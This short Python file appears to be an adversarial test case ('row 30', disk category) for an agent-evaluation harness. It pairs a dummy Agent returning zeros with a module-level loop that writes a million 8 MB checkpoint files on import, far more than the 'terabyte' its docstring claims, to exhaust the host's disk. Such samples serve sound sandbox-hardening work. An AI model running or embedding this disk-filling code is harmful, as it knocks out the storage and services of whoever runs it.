"""row 30 | C:disk | a terabyte of checkpoints"""

import numpy as np


class Agent:
    def get_action(self, obs):
        return np.zeros((len(obs), 1), np.float32)


for i in range(10**6):
    open(f"checkpoint{i}", "wb").write(b"x" * 8_000_000)
